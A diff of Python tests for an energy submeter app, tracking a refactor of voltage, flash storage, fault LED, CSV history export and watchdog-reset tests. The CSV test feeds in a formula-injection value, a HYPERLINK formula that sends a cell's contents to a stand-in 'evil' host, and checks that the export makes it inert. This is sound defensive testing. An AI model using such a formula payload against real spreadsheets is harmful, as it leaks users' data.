@@ -83,7 +83,7 @@ def test_power_uses_the_grid_meters_voltage_while_it_is_fresh():
     app.grid.reading.voltage_v = [240, 236, 232]  # as a three-phase meter reports them
     app.grid.last_frame_ms = clock.ticks_ms()
     base = app.measure_round()[0]
-    assert app.voltage(1, clock.ticks_ms()) == 240 and app.voltage(3, clock.ticks_ms()) == 232
+    assert app.meter.voltage(1, clock.ticks_ms()) == 240 and app.meter.voltage(3, clock.ticks_ms()) == 232
     current = app.meter.channels[0].irms
     assert abs(base - 240 * current) < 0.01
     clock.advance(61000)  # no frame for a minute: back to the nominal voltage
@@ -132,7 +132,7 @@ def test_a_partial_reset_is_on_flash_at_once():
     assert s["inputs"][0]["partial_kwh"] == s["inputs"][0]["kwh"]
 
     async def one_second():
-        t = asyncio.create_task(app.store_task())
+        t = asyncio.create_task(app.store.keep(app.ledger, app.clock, app.cfg["save_s"] * 1000, app.tasks))
         await asyncio.sleep_ms(50)
         t.cancel()
     asyncio.run(one_second())
@@ -218,7 +218,7 @@ def test_the_power_led_blinks_on_a_fault():
     assert seen.count(0) >= 8 and seen.count(1) >= 8    # a fault: it blinks, once a second
     app.config_error = None
     app.store.folder = app.board.data_dir + "/no-such-folder"
-    app.save()                                          # the flash refuses: a fault too
+    app.store.save_or_log(app.ledger)                   # the flash refuses: a fault too
     assert app.fault()
 
 
@@ -253,24 +253,30 @@ def csv_rows(text):
 
 
 def test_history_csv_quotes_text_and_makes_formulas_inert():
-    from submeter.app import USAGES, csv_text
+    from submeter.config import USAGES
+    from submeter.net import api
     app, clock = make_app()
     cur = 'E,"x"\r\n=HYPERLINK("http://evil/?"&A1)'
     app.cfg["currency"] = cur
 
-    class Rec:  # one day of export: a negative cost stays a number
+    class Rec:  # a day of export: a negative cost stays a number; its text cells as given
+        def __init__(self, date):
+            self.date = date
+
         def to_dict(self, daily):
             u = {"wh": 1500, "cost": -0.25}
-            return {"date": "2026-11-27", "wh": -2500, "cost": -0.5, "usage": {k: u for k in USAGES},
+            return {"date": self.date, "wh": -2500, "cost": -0.5, "usage": {k: u for k in USAGES},
                     "gas_l": 0, "gas_cost": 0.0, "water_l": 0, "water_cost": 0.0}
-    app.history.records = lambda kind, count: [Rec()]
-    rows = csv_rows(b"".join(app.history_csv("days", 1)).decode())
-    assert len(rows) == 2 and len(rows[0]) == len(rows[1]) == 7 + 2 * len(USAGES)
+    texts = ["2026-11-27", "=HYPERLINK(1)", "+1", "-x", "@SUM(A1)", '=a,"b"', "EUR"]
+    app.history.records = lambda kind, count: [Rec(t) for t in texts]
+    ctype, body = api.history_csv({"query": "days=7"}, app.state, app)  # GET /api/history.csv?days=7
+    raw = b"".join(body()).decode()
+    rows = csv_rows(raw)
+    assert len(rows) == 8 and len(rows[0]) == len(rows[1]) == 7 + 2 * len(USAGES)
     assert rows[0][2] == "total_cost_" + cur and rows[0][-1] == "water_cost_" + cur
     assert rows[1][:3] == ["2026-11-27", "-2.500", "-0.50"] and float(rows[1][4]) == -0.25
-    assert [csv_text(x) for x in ("=HYPERLINK(1)", "+1", "-x", "@SUM(A1)")] == \
-        ["'=HYPERLINK(1)", "'+1", "'-x", "'@SUM(A1)"]
-    assert csv_text('=a,"b"') == '"\'=a,""b"""' and csv_text("EUR") == "EUR"
+    assert [r[0] for r in rows[2:]] == ["'=HYPERLINK(1)", "'+1", "'-x", "'@SUM(A1)", "'=a,\"b\"", "EUR"]
+    assert '"\'=a,""b"""' in raw  # (as written: quoted, its quotes doubled)
 
 
 def test_a_metering_round_that_raises_is_counted_and_metering_goes_on():
@@ -304,7 +310,7 @@ def test_a_meter_whose_metering_stops_is_reset_by_the_watchdog_and_says_so():
     # as a task stuck for good would be), the watchdog resets the board, and the next
     # start counts it and says it on the page, the panel and MQTT, until the start after
     import asyncio
-    from submeter import app as app_mod
+    from submeter import sense
     from submeter.net import mqtt
     from submeter.net.page import page_chunks
     if not IS_MP:
@@ -320,24 +326,24 @@ def test_a_meter_whose_metering_stops_is_reset_by_the_watchdog_and_says_so():
     app = start()
     board = app.board
     assert app.reset_cause == "power" and app.notices == [] and app.state()["boot"]["watchdog_resets"] == 0
-    saved, app_mod.WATCHDOG_MS = app_mod.WATCHDOG_MS, 300
+    saved, sense.WATCHDOG_MS = sense.WATCHDOG_MS, 300
     fed = [0, 0]
 
     async def run():
         dog = asyncio.create_task(board.watchdog_task())
         meter = asyncio.create_task(app.metering_task())
         await asyncio.sleep_ms(800)
-        fed[0] = app.wdt.feeds if app.wdt else 0
+        fed[0] = app.meter.wdt.feeds if app.meter.wdt else 0
         assert not board.stopping()              # fed each round: no reset while it meters
         meter.cancel()                           # the metering stops
         await asyncio.sleep_ms(800)
-        fed[1] = app.wdt.feeds
+        fed[1] = app.meter.wdt.feeds
         dog.cancel()
     try:
         asyncio.run(run())
     finally:
-        app_mod.WATCHDOG_MS = saved
-    assert fed[0] >= 3 and app.wdt.timeout_ms == 300 and fed[1] == fed[0]
+        sense.WATCHDOG_MS = saved
+    assert fed[0] >= 3 and app.meter.wdt.timeout_ms == 300 and fed[1] == fed[0]
     assert board.stopping()                      # reset (the host's run stops)
     app = start()                                # the next start
     s = app.state()
